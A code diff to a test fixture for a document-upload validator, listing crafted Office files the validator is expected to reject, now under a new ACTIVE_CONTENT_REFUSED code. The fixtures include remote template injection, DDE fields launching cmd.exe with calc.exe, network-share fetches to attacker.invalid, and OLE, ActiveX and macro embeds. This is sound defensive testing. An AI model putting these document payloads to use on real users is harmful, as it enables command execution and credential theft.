@@ -595,7 +595,7 @@ const fieldRuns = (...instr: string[]) =>
 export interface AttackOffice {
   build: () => Buffer;
   name: string;
-  code: 'PAYLOAD_TOO_LARGE' | 'UNSUPPORTED_MEDIA_TYPE';
+  code: 'PAYLOAD_TOO_LARGE' | 'UNSUPPORTED_MEDIA_TYPE' | 'ACTIVE_CONTENT_REFUSED';
   /** What the refusal must say (its English text). */
   says: RegExp;
 }
@@ -615,37 +615,37 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
   'DOCX with a remote template (attachedTemplate, TargetMode="External" in word/_rels/settings.xml.rels)': {
     build: () => remoteTemplate('attachedTemplate', 'http://example.invalid/template.dotm'),
     name: 'to-khai.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /attachedTemplate to http:\/\/example\.invalid\/template\.dotm/,
   },
   'DOCX whose template is a web link in disguise (a hyperlink-typed relationship used by w:attachedTemplate)': {
     build: () => remoteTemplate('hyperlink', 'https://example.invalid/template.dotm'),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /outside link \(rId1\) for attachedTemplate/,
   },
   'DOCX with a picture linked from a network share (an external image relationship)': {
     build: () => docxWith({ rels: [{ id: 'rId7', type: 'image', target: 'file://///attacker.invalid/share/pixel.png', external: true }] }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /load content from outside/,
   },
   'DOCX with a DDEAUTO field (w:fldSimple)': {
     build: () => docxWith({ body: `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>` }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /DDEAUTO field/,
   },
   'DOCX with a DDE field split over several w:instrText runs': {
     build: () => docxWith({ body: fieldRuns(' D', 'DE c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k calc.exe"') }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /DDE field/,
   },
   'DOCX with an INCLUDEPICTURE field fetching from a network share': {
     build: () => docxWith({ body: fieldRuns('INCLUDEPICTURE "\\\\\\\\attacker.invalid\\\\s\\\\x.png" \\\\d') }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /INCLUDEPICTURE field/,
   },
   'DOCX with an OLE package embedded (word/embeddings/oleObject1.bin, o:OLEObject)': {
@@ -656,13 +656,13 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
         parts: [{ name: 'word/embeddings/oleObject1.bin', data: CFB }],
       }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /OLE or ActiveX/,
   },
   'DOCX with an ActiveX control': {
     build: () => docxWith({ rels: [{ id: 'rId9', type: 'control', target: 'activeX/activeX1.xml' }], parts: [{ name: 'word/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>' }] }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /OLE or ActiveX/,
   },
   'DOCX whose document declares entities (a billion-laughs DOCTYPE)': {
@@ -691,19 +691,19 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
         { name: 'xl/externalLinks/externalLink1.xml', data: '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' },
       ]),
     name: 'a.xlsx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /a DDE link/,
   },
   'DOCX with a hyperlink to a local program': {
     build: () => docxWith({ body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Bấm vào đây</w:t></w:r></w:hyperlink></w:p>', rels: [{ id: 'rId3', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }] }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /non-web address/,
   },
   'DOCX embedding a macro-enabled workbook where a chart keeps its data': {
     build: () => docxWith({ parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeZip([...xlsxEntries(), { name: 'xl/vbaProject.bin', data: CFB }]) }] }),
     name: 'a.docx',
-    code: 'UNSUPPORTED_MEDIA_TYPE',
+    code: 'ACTIVE_CONTENT_REFUSED',
     says: /macros/,
   },
 };
